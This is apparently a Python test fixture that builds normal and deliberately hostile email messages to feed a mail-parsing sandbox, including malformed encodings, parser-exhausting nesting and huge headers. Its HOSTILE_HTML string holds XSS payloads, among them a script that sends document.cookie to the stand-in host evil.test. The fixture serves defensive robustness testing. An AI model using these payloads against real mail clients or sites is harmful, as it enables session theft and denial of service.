"""Mails to hand to the sandbox, kind and hostile."""

from __future__ import annotations

from email.message import EmailMessage

HOSTILE_HTML = (
    '<script>fetch("https://evil.test/?" + document.cookie)</script><img src="https://evil.test/pixel.gif" '
    'onerror="alert(1)"><form action="https://evil.test"><input name="p"></form><style>@import "https://evil.test/a.css";'
    '</style><a href="javascript:alert(1)">here</a><iframe src="https://evil.test"></iframe>'
    '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test">'
)


def a_mail(
    to: str = "bob@example.com",
    subject: str = "Your code",
    text: str = "Your code is 482913.",
    html: str | None = None,
) -> bytes:
    message = EmailMessage()
    message["From"] = "Acme <no-reply@acme.test>"
    message["To"] = to
    message["Subject"] = subject
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    return message.as_bytes()


HOSTILE_MAILS: dict[str, bytes] = {
    "empty": b"",
    "no header": b"\r\n\r\nhello",
    "only zero bytes": b"\x00" * 5000,
    "all bytes": bytes(range(256)) * 40,
    "unknown charset": b'Content-Type: text/plain; charset="x-klingon"\r\n\r\nnuqneH \xe9',
    "charset with a zero": b'Content-Type: text/plain; charset="utf\x00-8"\r\n\r\nhello',
    "lying charset": b"Content-Type: text/html; charset=ascii\r\n\r\n<p>caf\xc3\xa9 \xff</p>",
    "charset that is no text": b"Content-Type: text/plain; charset=base64\r\n\r\nhello",
    "broken base64": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!",
    "broken encoded word": b"Subject: =?utf-8?b?!!!?= =?nonsense?q?=ff?= =?utf-8?q?=ff?=\r\n\r\nhello",
    "unknown encoding": b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n#86)C\r\nend",
    "eight-bit headers": b"Subject: caf\xe9 \xff\xfe\r\nFrom: \xf0\x9f\x98\x80@x.test\r\n\r\nhello",
    "multipart without boundary": b"Content-Type: multipart/alternative\r\n\r\n--x\r\n\r\nhello",
    "boundary that never comes": b'Content-Type: multipart/mixed; boundary="zzz"\r\n\r\nhello',
    "parts in parts": b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth) for depth in range(2000)
    ),
    "many parts": b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 5000,
    "header of a megabyte": b"Subject: " + b"a" * 1_000_000 + b"\r\n\r\nhello",
    "a hundred thousand headers": b"X: y\r\n" * 100_000 + b"\r\nhello",
    "deep html": b"Content-Type: text/html\r\n\r\n" + b"<div>" * 50_000 + b"482913",
    "tables in tables": b"Content-Type: text/html\r\n\r\n" + b"<table><tr><td>" * 5_000 + b"x",
    "unclosed tags": b"Content-Type: text/html\r\n\r\n" + b"<a href='https://x.test/" * 20_000,
    "angle brackets": b"Content-Type: text/html\r\n\r\n" + b"<" * 300_000,
    "comment that never ends": b"Content-Type: text/html\r\n\r\n<!--" + b"-<!" * 100_000,
    "only digits": b"\r\n" + b"1234567890 " * 30_000,
    "digits and gaps": b"\r\n" + b"1 " * 150_000,
    "letters and hyphens": b"\r\n" + b"ABCD-" * 60_000,
    "message in a message": b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nhello",
    "partial html": b"Content-Type: text/html; charset=utf-16\r\n\r\n\xff\xfe<\x00",
    "rtl and zero width": "Subject: \u202egnirts\u200b\r\n\r\n\u2066code\u2069: 482913".encode(),
    "script": b"Content-Type: text/html\r\n\r\n" + HOSTILE_HTML.encode(),
}
